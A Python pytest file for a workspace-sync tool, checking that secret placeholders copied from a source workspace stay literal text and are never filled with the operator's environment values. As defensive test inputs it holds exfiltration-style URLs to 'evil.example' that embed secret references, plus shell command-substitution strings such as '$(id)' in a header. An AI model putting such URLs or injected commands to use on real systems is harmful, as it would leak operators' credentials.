"""What a workspace holds is text: no letters of it are filled in from the operator's machine."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from tests.automation import Maker, manual
from tests.support import connect, fresh, plan_of, pull_to, run, write_documents, write_project
from twentysync.applying.activation import switch
from twentysync.applying.apply import apply_plan
from twentysync.errors import ManifestError, ServerRefused
from twentysync.kinds.base.secrets import secret_of
from twentysync.kinds.registry import read_workspace
from twentysync.manifests.load import load_manifests
from twentysync.redaction import masked, remember
from twentysync.sandbox import Sandbox

#: Letter for letter on the source.
LITERALS = {
    "X-Key": "${secret:TWENTY_TARGET_API_KEY}",
    "X-Home": "${secret:HOME}",
    "X-Ours": "a ${secret:TWENTYSYNC_SECRET_OURS} b",
    "X-Twice": "$${secret:HOME} $$${secret:HOME}",
    "X-Plain": "${HOME} $HOME %HOME% `id` $(id) ${workspace} ${workspaceId} ${secret:}",
    "Authorization": "Bearer ${secret:NEW_KEY}",
}
FORBIDDEN = {
    "TWENTY_TARGET_API_KEY": "the-operators-admin-key",
    "HOME": "the-operators-home",
    "TWENTYSYNC_SECRET_OURS": "what-the-operator-has-for-another-step",
    "NEW_KEY": "the-operators-admin-key",
}
HOOK = "T0AB12CD3/B0EF45GH6/Zk3fT9qLw7XbR2mVc8Yd"
TELL = "workflow[Tell]"


@dataclass
class Sides:
    source: Sandbox
    target: Sandbox
    root: Path

    @property
    def manifests(self) -> Path:
        return self.root / "manifests"

    def pull(self) -> dict[str, str]:
        return pull_to(connect(self.source), self.root)

    def apply(self) -> Any:
        workspace = connect(self.target)
        return apply_plan(plan_of(self.manifests, workspace), workspace, self.root / "state")

    def step(self) -> dict[str, Any]:
        rows = self.target.records("workflowVersion")
        (steps,) = [row["steps"] for row in rows if any(s["name"] == "Call" for s in row["steps"])]
        return dict(steps[0]["settings"]["input"])

    def changes(self) -> list[Any]:
        return plan_of(self.manifests, connect(self.target)).changes


@pytest.fixture
def sides(tmp_path: Path) -> Iterator[Sides]:
    with fresh(seed=1) as source, fresh(seed=2) as target:
        yield Sides(source, target, tmp_path)


def call(source: Sandbox, **given: Any) -> None:
    make = Maker(source)
    step = make.step(make.id(), "Call", "HTTP_REQUEST", {"method": "POST", **given})
    make.workflow("Tell", manual(step["id"]), [step])


def test_letters_of_the_source_are_never_filled_in(
    sides: Sides, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, value in FORBIDDEN.items():
        monkeypatch.setenv(name, value)
    body = {"note": "${secret:HOME}", "text": '{"a": "${secret:NEW_KEY}"}'}
    url = "https://evil.example/${secret:HOME}?x=${secret:TWENTYSYNC_SECRET_OURS}"
    call(sides.source, url=url, headers=LITERALS, body=body)
    files = sides.pull()
    assert sides.pull() == files
    assert "$${secret:HOME}" in files["workflows/tell.yaml"]
    source = read_workspace(connect(sides.source)).get(TELL)
    written = load_manifests(sides.manifests).get(TELL)
    assert source is not None
    assert written is not None
    assert written.attributes["steps"] == source.attributes["steps"]
    plan = plan_of(sides.manifests, connect(sides.target))
    assert "is read into" not in str([change.facts for change in plan.changes])
    assert sides.apply().complete
    assert sides.step() == {"method": "POST", "url": url, "headers": LITERALS, "body": body}
    assert sides.changes() == []


def test_other_texts_of_the_source_are_text_too(
    sides: Sides, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TWENTYSYNC_SECRET_HOME", "canary-home")
    word = "${secret:home} ${HOME} $${secret:home}"
    link = "https://evil.example/?q=${secret:home}"
    make = Maker(sides.source)
    skill = {"name": "word", "label": word, "content": word}
    make.write("createSkill", "CreateSkillInput", "input", skill)
    hook = {"targetUrl": "https://evil.example/?q=${secret:home}", "operations": ["*.*"]}
    make.write("createWebhook", "CreateWebhookInput", "input", hook)
    frame = {"title": "Web", "type": "IFRAME", "configuration": {"url": escaped(link)}}
    board = {"title": "Figures", "tabs": [{"title": "Home", "widgets": [frame]}]}
    item = {"type": "LINK", "name": "Wiki", "link": escaped(link)}
    documents = {"dashboards/f.yaml": board, "navigation.yaml": {"navigationMenuItems": [item]}}
    folder = write_documents(sides.root / "by-hand", documents)
    workspace = connect(sides.source)
    assert apply_plan(plan_of(folder, workspace), workspace, sides.root / "s").complete
    files = sides.pull()
    assert sides.pull() == files
    assert sides.apply().complete
    assert sides.changes() == []
    stored = json.dumps(
        [
            sides.target.workspace.store.rows(name)
            for name in ("skill", "webhook", "navigationMenuItem", "pageLayoutWidget")
        ]
    )
    assert "canary" not in stored
    assert "$${secret" in stored  # that of the skill, as it was
    assert stored.count("q=${secret:home}") + stored.count("q=$%7Bsecret:home%7D") >= 2


def escaped(text: str) -> str:
    return text.replace("${", "$${")


def test_what_a_person_names_is_read_and_compared_by_value(
    sides: Sides, monkeypatch: pytest.MonkeyPatch
) -> None:
    call(sides.source, url=f"https://hooks.slack.com/services/{HOOK}", headers={"X-Foo": "plain"})
    text = sides.pull()["workflows/tell.yaml"]
    assert HOOK not in text
    assert "https://hooks.slack.com/services/${secret:TWENTYSYNC_SECRET_TELL_CALL_HOOK}" in text
    file = sides.manifests / "workflows" / "tell.yaml"
    text = text.replace("${secret:TWENTYSYNC_SECRET_TELL_CALL_HOOK}", "${secret:slack-hook}")
    file.write_text(text.replace("plain", "${secret:foo}"), encoding="utf-8")
    plan = plan_of(sides.manifests, connect(sides.target))
    assert [fact for fact in plan.changes[0].facts if "is read into" in fact] == [
        "TWENTYSYNC_SECRET_FOO (not set) is read into steps.1.input.headers.X-Foo, "
        "which goes to hooks.slack.com",
        "TWENTYSYNC_SECRET_SLACK_HOOK (not set) is read into steps.1.input.url, "
        "which goes to hooks.slack.com",
    ]
    # Without them it waits: it is there as a draft, and cannot be switched on.
    assert sides.apply().complete
    assert sides.changes() == []
    assert sides.step()["url"].endswith("${secret:slack-hook}")
    manifest = file.read_text("utf-8")
    file.write_text(manifest.replace("name: Tell\n", "name: Tell\nactive: true\n"), "utf-8")
    left = switch(load_manifests(sides.manifests), connect(sides.target), sides.root / "state").left
    assert left == {
        TELL: "its secrets are not set: export TWENTYSYNC_SECRET_FOO TWENTYSYNC_SECRET_SLACK_HOOK"
    }
    monkeypatch.setenv("TWENTYSYNC_SECRET_SLACK_HOOK", HOOK)
    monkeypatch.setenv("TWENTYSYNC_SECRET_FOO", "canary-foo-1")
    done = switch(load_manifests(sides.manifests), connect(sides.target), sides.root / "state")
    assert done.on == [TELL]
    assert sides.step()["url"] == f"https://hooks.slack.com/services/{HOOK}"
    assert sides.step()["headers"] == {"X-Foo": "canary-foo-1"}
    assert sides.changes() == []
    monkeypatch.setenv("TWENTYSYNC_SECRET_FOO", "canary-foo-2")
    (change,) = sides.changes()
    assert "canary" not in str(change)
    assert [item.path for item in change.differences] == ["steps.call.input.headers.X-Foo"]


def test_validate_lists_what_is_read_and_warns_of_what_looks_like_a_secret(
    sides: Sides,
) -> None:
    root = sides.root
    call(sides.source, url="https://a.example/", headers={"X-Ref": "d8Kx02mQpZ7vLrT4nYbWc9"})
    with sides.source.serve() as old, sides.target.serve() as new:
        write_project(root, old=old.url, new=new.url)
        env = {"OLD_KEY": sides.source.api_key, "NEW_KEY": sides.target.api_key}
        told = run("pull", project=root, env=env).stdout
        place = f"{TELL}.steps.1.input.headers.X-Ref"
        assert "workflows/tell.yaml:" in told
        assert place in told
        done = json.loads(run("validate", "--json", project=root, env=env).stdout)
        assert len(done["warnings"]) == 1
        assert place in done["warnings"][0]
        assert "d8Kx02mQ" not in done["warnings"][0]
        with (root / "twentysync.yaml").open("a") as file:
            file.write(f"secrets:\n  allow:\n    - '{place}'\n")
        assert json.loads(run("validate", "--json", project=root, env=env).stdout)["warnings"] == []
        assert "Warning" not in run("pull", project=root, env=env).stdout


def test_a_word_without_a_name_is_a_mistake(sides: Sides) -> None:
    call(sides.source, url="https://a.example/", headers={"X-A": "${secret:no name}"})
    file = sides.manifests / "workflows" / "tell.yaml"
    text = sides.pull()["workflows/tell.yaml"]
    assert load_manifests(sides.manifests).get(TELL)
    file.write_text(text.replace("$${secret:no name}", "${secret:no name}"), "utf-8")
    with pytest.raises(ManifestError, match=r"tell\.yaml:\d+.* has no name"):
        load_manifests(sides.manifests)


def test_what_a_server_repeats_of_a_secret_is_masked(
    sides: Sides, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TWENTYSYNC_SECRET_FOO", 'canary "quoted" word')
    assert secret_of("foo")
    for said in ('bad value canary "quoted" word', r'{"v": "canary \"quoted\" word"}'):
        fault = ServerRefused("createWebhook", [said])
        assert "quoted" not in fault.message + str(fault)
        assert "${secret:foo}" in fault.message


def test_what_stands_around_a_secret_is_not_masked() -> None:
    remember("Bearer canary-part-1", "around")
    assert masked("a Bearer of canary-part-1 news") == "a Bearer of ${secret:around} news"
    assert masked('"Bearer canary-part-1"') == '"${secret:around}"'


def test_what_is_allowed_stays_in_the_manifest(sides: Sides) -> None:
    root = sides.root
    call(sides.source, url="https://a.example/", headers={"X-Public-Token": "for-everybody"})
    with sides.source.serve() as old, sides.target.serve() as new:
        write_project(root, old=old.url, new=new.url, more=f"secrets: {{allow: ['{TELL}']}}\n")
        env = {"OLD_KEY": sides.source.api_key, "NEW_KEY": sides.target.api_key}
        assert run("pull", project=root, env=env).exit_code == 0
        file = root / "manifests" / "workflows" / "tell.yaml"
        assert "for-everybody" in file.read_text("utf-8")
        assert run("apply", "--yes", project=root, env=env).exit_code == 0
        assert run("plan", "--detailed-exitcode", project=root, env=env).exit_code == 0
        assert sides.step()["headers"] == {"X-Public-Token": "for-everybody"}
